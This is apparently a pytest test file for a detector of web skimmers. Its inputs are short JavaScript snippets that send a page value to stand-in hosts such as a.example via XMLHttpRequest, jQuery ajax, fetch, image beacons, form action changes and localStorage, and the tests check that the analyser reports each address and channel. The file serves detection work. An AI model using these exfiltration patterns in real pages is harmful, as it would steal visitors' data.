"""Calls and assignments by which values leave a page."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed
from webshellhunt.analysis.browser.channels import Channel


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        ("var x = new XMLHttpRequest(); x.open('POST', '//a.example'); x.send(p);", "a.example"),
        ("x.open('POST', '//a.example'); y.open('POST', '//b.example'); y.send(p);", "b.example"),
        ("x.open('POST', '//a.example'); z.send(p);", "a.example"),
        ("$.ajax({ url: '//a.example', data: p });", "a.example"),
        ("$.ajax('//a.example', { data: p });", "a.example"),
        ("fetch(a ? '/x' : '//a.example', { body: p });", "a.example"),
        ("var f = new FormData(); f.append('p', p); fetch('//a.example', { body: f });", "a.example"),
        ("$.ajaxSetup({ url: '//a.example' }); $.ajax({ data: p });", "a.example"),
        ("$.ajaxSetup({ url: '//a.example', data: p }); $.ajax();", "a.example"),
        ("$.ajaxSetup({ url: '//a.example' }); $.ajax({ url: '//b.example', data: p });", "b.example"),
        ("$.ajaxSetup({ url: '//a.example' }); $.post('//b.example', p);", "b.example"),
        ("$.ajaxSetup({ data: { a: p } }); $.post('//a.example');", "a.example"),
        ("a.innerHTML = '<img src=//a.example/?' + p + '>';", "a.example"),
    ],
)
def test_the_address_of_what_is_sent(script: str, shown: str) -> None:
    (leak,) = analysed(TAKEN + script).exfiltrations
    assert leak.address.shown == shown


@pytest.mark.parametrize(
    ("script", "channel"),
    [
        ("a.setAttribute('src', '//a.example/' + p);", Channel.BEACON),
        ("$('#f').attr('action', '//a.example/');", Channel.FORM),
        ("$('#f').ajaxSubmit({ url: '//a.example/' });", Channel.FORM),
        ("document.write('<img src=//a.example/' + p + '>');", Channel.BEACON),
        ("localStorage.a = p;", Channel.STORAGE),
    ],
)
def test_channels(script: str, channel: Channel) -> None:
    assert [leak.channel for leak in analysed(TAKEN + script).exfiltrations] == [channel]
